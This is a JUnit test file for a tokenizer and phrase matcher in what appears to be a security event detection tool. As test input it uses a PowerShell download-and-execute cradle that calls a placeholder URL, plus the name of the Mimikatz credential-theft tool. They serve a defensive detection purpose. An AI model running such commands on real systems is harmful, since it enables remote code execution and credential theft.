package io.tripline.event;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class WordsTest {

    /** The examples of Elasticsearch's page on its standard analyser and of Lucene's tests of word boundaries. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            The 2 QUICK Brown-Foxes jumped | the 2 quick brown foxes jumped
            the lazy dog's bone.           | the lazy dog's bone
            A:B                            | a:b
            A::B                           | a b
            A.:B                           | a b
            1.2 1..2 1,2 1,,2              | 1.2 1 2 1,2 1 2
            1.a a.1                        | 1 a a 1
            A_B _A_ __                     | a_b _a_
            [System.IO.File]::ReadAllBytes | system.io.file readallbytes
            win32.dll C:\\Windows          | win32 dll c windows
            日本語 ひら                     | 日 本 語 ひ ら
            """)
    void textIsSplitAtUnicodeWordBoundaries(String text, String words) {
        assertEquals(List.of(words.split(" ")), Phrases.of(text));
    }

    @Test
    void wordsOfAPhraseMustBeNeighboursInOrder() {
        FieldValues script = values("IEX (New-Object Net.WebClient).DownloadString('http://a/b')");
        assertTrue(script.hasWords("new-object net.webclient"));
        assertTrue(script.hasWords("missing", "iex"));
        assertFalse(script.hasWords("net.webclient new-object"));
        assertFalse(script.hasWords("new-object downloadstring"));
        assertFalse(script.hasWords("webclient"));
        assertFalse(FieldValues.NONE.hasWords("iex"));
    }

    @Test
    void starStandsForAnyPartOfOneWord() {
        FieldValues text = values("Invoke-Mimikatz2 now");
        assertTrue(text.hasWords("mimi*"));
        assertTrue(text.hasWords("*katz*"));
        assertTrue(text.hasWords("invoke m*2"));
        assertFalse(text.hasWords("invoke*2"));
    }

    @Test
    void phraseWithoutAWordIsRefused() {
        assertThrows(IllegalArgumentException.class, () -> values("a").hasWords("!?"));
    }

    private static FieldValues values(String text) {
        return new FieldValues(List.of(new FieldValue(text)));
    }
}
